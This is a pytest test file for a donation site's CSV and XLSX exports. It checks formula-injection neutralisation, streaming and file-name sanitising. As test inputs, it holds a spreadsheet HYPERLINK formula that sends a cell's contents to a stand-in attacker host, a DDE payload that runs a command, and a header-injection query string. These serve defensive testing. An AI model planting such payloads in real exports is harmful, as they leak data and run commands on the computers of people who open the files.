"""Every CSV/XLSX the site writes: no cell a spreadsheet would run as a formula, and rows
streamed rather than built in memory (pairing/downloads.py)."""

from __future__ import annotations

import csv
import io

import pytest
from giving.giving_helpers import world
from openpyxl import load_workbook

import support
from pairing import downloads
from pairing.stats import opendata

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"详情")'


@pytest.mark.parametrize("value,expected", [
    (EVIL, "'" + EVIL), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.50", "-12.50"), ("+86", "+86"), ("十八洞村", "十八洞村"), ("a=b", "a=b"),
    (-1500, -1500), (2.5, 2.5), (None, None), (True, True),
])
def test_a_cell_is_never_a_formula(value, expected):
    assert downloads.neutral(value) == expected


def _gift_from(app, make_user, donor_name: str) -> None:  # noqa: ANN001
    w = world(app, make_user, needed=10_000)
    donor = app.test_client()
    support.login(donor, make_user("donor", name=donor_name).email)
    support.post(donor, f"/crowdfunding/{w.request_id}/donate", {
        "amount": "100", "provider": "sandbox", "fallback": "0", "key": "abc"})


def test_a_donor_named_like_a_formula_is_text_in_the_ledger_downloads(app, client, make_user):
    _gift_from(app, make_user, EVIL)
    got = client.get("/open-data/ledger.csv")
    rows = list(csv.DictReader(io.StringIO(got.get_data().decode("utf-8-sig"))))
    assert [r["donor_or_purpose"] for r in rows] == ["'" + EVIL]
    assert int(rows[0]["amount_fen"]) == 10_000  # numbers stay numbers
    got = client.get("/open-data/ledger.xlsx")
    sheet = load_workbook(io.BytesIO(got.data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(2, header.index("donor_or_purpose") + 1)
    assert cell.data_type == "s" and cell.value == "'" + EVIL  # not a formula ("f")
    assert sheet.cell(2, header.index("amount_fen") + 1).value == 10_000


@pytest.mark.parametrize("name", [d.name for d in opendata.datasets().values()]
                         + ["ledger", "offers", "needs", "sales", "pairings", "reports"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_download_is_written_by_the_shared_writer(app, client, name, fmt):
    got = client.get(f"/open-data/{name}.{fmt}", buffered=False)
    assert got.status_code == 200
    assert got.headers["Content-Disposition"] == f'attachment; filename="{name}.{fmt}"'
    body = b"".join(got.response)
    got.close()
    header = opendata.find(name).header
    if fmt == "csv":
        assert body.startswith("\ufeff".encode())
        assert next(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == header
    else:
        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
        assert [c.value for c in sheet[1]] == header


def _probe(monkeypatch, rows: int) -> list[int]:  # noqa: ANN001
    """A dataset of `rows` rows that counts how many have been made so far."""
    made = [0]

    def produce(_args):  # noqa: ANN001, ANN202
        for i in range(rows):
            made[0] += 1
            yield [i, f"村{i}", -i]

    monkeypatch.setitem(opendata.EXTRA, "probe",
                        opendata.Dataset("probe", ["id", "name", "amount"], produce, "probe"))
    return made


def test_a_csv_download_is_sent_while_its_rows_are_made(client, monkeypatch):
    made = _probe(monkeypatch, 5 * downloads.CSV_BATCH)
    got = client.get("/open-data/probe.csv", buffered=False)
    chunks = iter(got.response)
    first = next(chunks)
    assert first.startswith("\ufeffid,name,amount\r\n0,村0,0\r\n".encode())
    assert made[0] <= downloads.CSV_BATCH + 1  # the rest are not made yet
    rest = b"".join(chunks)
    got.close()
    assert made[0] == 5 * downloads.CSV_BATCH
    assert (first + rest).count(b"\r\n") == 5 * downloads.CSV_BATCH + 1


def test_an_xlsx_download_is_sent_in_chunks(client, monkeypatch):
    _probe(monkeypatch, 2000)
    monkeypatch.setattr(downloads, "CHUNK_BYTES", 4096)
    got = client.get("/open-data/probe.xlsx", buffered=False)
    chunks = list(got.response)
    got.close()
    assert len(chunks) > 2 and all(len(c) <= 4096 for c in chunks)
    sheet = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True).worksheets[0]
    assert [list(r) for r in sheet.iter_rows(min_row=2001, values_only=True)] == [
        [1999, "村1999", -1999]]


def test_a_csv_is_sent_in_pieces_as_its_rows_are_made():
    rows = ([i, f"村{i}"] for i in range(2 * downloads.CSV_BATCH + 1))
    chunks = list(downloads.csv_chunks(["id", "name"], rows))
    assert len(chunks) == 3
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 2 * downloads.CSV_BATCH + 2


def test_the_file_name_takes_only_safe_characters_of_the_query(client):
    got = client.get('/open-data/villages.csv?province=43"; x=1', buffered=False)
    assert got.headers["Content-Disposition"] == 'attachment; filename="villages-43___x_1.csv"'
    got.close()


def test_a_download_longer_than_a_batch_of_rows_is_whole(app, client):
    """The rows are read in batches of 1,000 (yield_per) while the response is sent: the
    database session must still be open for the later batches."""
    from sqlalchemy import insert

    from pairing.extensions import db
    from pairing.places.models import Village

    with app.app_context():
        db.session.execute(insert(Village), [
            {"name": f"第{i}村", "county_code": "433124", "population": 1000,
             "households": 300, "poor_households": 60, "poor_population": 200,
             "income_per_capita": 3000, "status": "verified"} for i in range(2500)])
        db.session.commit()
    for fmt in ("csv", "xlsx"):
        got = client.get(f"/open-data/villages.{fmt}", buffered=False)
        body = b"".join(got.response)
        got.close()
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        else:
            rows = list(load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
                        .iter_rows(values_only=True))
        assert sorted(r[1] for r in rows[1:]) == sorted(f"第{i}村" for i in range(2500))
